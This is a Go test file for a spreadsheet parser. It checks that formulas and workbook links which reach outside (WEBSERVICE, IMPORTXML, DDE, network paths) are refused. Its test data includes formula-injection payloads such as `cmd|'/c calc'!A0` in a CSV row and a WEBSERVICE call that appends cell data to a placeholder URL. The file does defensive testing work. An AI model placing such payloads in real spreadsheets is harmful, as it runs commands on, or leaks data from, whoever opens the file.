package sheet

import (
	"strings"
	"testing"
)

func TestCallsOut(t *testing.T) {
	for formula, want := range map[string]bool{
		`ROW()-3`: false, `VLOOKUP(B2,[1]DM!$A:$B,2,0)`: false, `IF(A1="a|b!","x",1)`: false, `CONCATENATE(B2," ",C2)`: false, `HYPERLINK("#DS!A1","x")`: false,
		`MYCALL(1)`: false, `"EXEC("&A1`: false, `WEBSERVICE("http://x/"&A1)`: true, `_xlfn.WEBSERVICE(A1)`: true, `cmd|'/c calc'!A0`: true, `=cmd|'/c calc'!A0`: true,
		`of:=DDE("soffice";"a.ods";"A1")`: true, `IMPORTXML("http://x";"//a")`: true, `1+webservice(A1)`: true,
	} {
		if got := callsOut([]byte(formula)); got != want {
			t.Errorf("%s: %v, want %v", formula, got, want)
		}
	}
	for target, want := range map[string]bool{
		"http://x.example/a.xlsx": true, `\\may-chu\chung\a.xlsx`: true, "file://may-chu/a.xlsx": true, `file:///\\may-chu\a.xlsx`: true,
		"file:///C:/DM/a.xlsx": false, "a.xlsx": false, `C:\DM\a.xlsx`: false, "/D:/a.xlsx": false,
	} {
		if got := onNetwork(target); got != want {
			t.Errorf("%s: %v, want %v", target, got, want)
		}
	}
}

// A file that reaches out is refused whole, whatever kind it is.
func TestFilesThatCallOut(t *testing.T) {
	row := func(f string) string {
		return sheetOf(`<row r="1"><c r="A1" t="str"><f>` + f + `</f><v>x</v></c></row>`)
	}
	wantRefused(t, "fetches", parts(t, row(`_xlfn.WEBSERVICE(&quot;http://x&quot;)`), nil), "sheet.calls-out")
	wantRefused(t, "runs", parts(t, row(`cmd|'/c calc'!A0`), nil), "sheet.calls-out")
	wantRefused(t, "csv", []byte("STT,Họ và tên\n1,=cmd|'/c calc'!A0\n"), "sheet.calls-out")
	wantRefused(t, "sml", []byte(`<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row><Cell ss:Formula="=WEBSERVICE(&quot;http://x&quot;)"><Data ss:Type="String">a</Data></Cell></Row></Table></Worksheet></Workbook>`), "sheet.calls-out")
	ods := rawTestdata(t, "one.lo.ods")
	content := partsOf(t, ods)["content.xml"]
	wantRefused(t, "ods", repack(t, ods, map[string]string{"content.xml": strings.Replace(content, "<table:table-cell ", `<table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)" `, 1)}), "sheet.calls-out")

	linked := func(link, rels string) []byte {
		book := parts(t, row("[1]DM!A1"), nil)
		old := partsOf(t, book)["xl/_rels/workbook.xml.rels"]
		return repack(t, book, map[string]string{
			"xl/_rels/workbook.xml.rels":                    strings.Replace(old, "</Relationships>", `<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`, 1),
			"xl/externalLinks/externalLink1.xml":            link,
			"xl/externalLinks/_rels/externalLink1.xml.rels": rels,
		})
	}
	to := func(target string) string {
		return `<Relationships><Relationship Id="rId1" Type="x/externalLinkPath" Target="` + target + `" TargetMode="External"/></Relationships>`
	}
	book := `<externalLink><externalBook id="rId1"><sheetNames><sheetName val="DM"/></sheetNames></externalBook></externalLink>`
	wantRefused(t, "link to a program", linked(`<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`, to("a.xlsx")), "sheet.calls-out")
	wantRefused(t, "link to the network", linked(book, to("http://x.example/a.xlsx")), "sheet.calls-out")
	wantRefused(t, "link to a server", linked(book, to(`file://may-chu/a.xlsx`)), "sheet.calls-out")
	if b, err := readWithin(t, linked(book, to("file:///C:/DM/danh-muc.xlsx"))); err != nil || b.Sheets[0].Rows[0].Cells[0].Text != "x" {
		t.Errorf("a lookup in another workbook is read by its saved value: %v", err)
	}
}
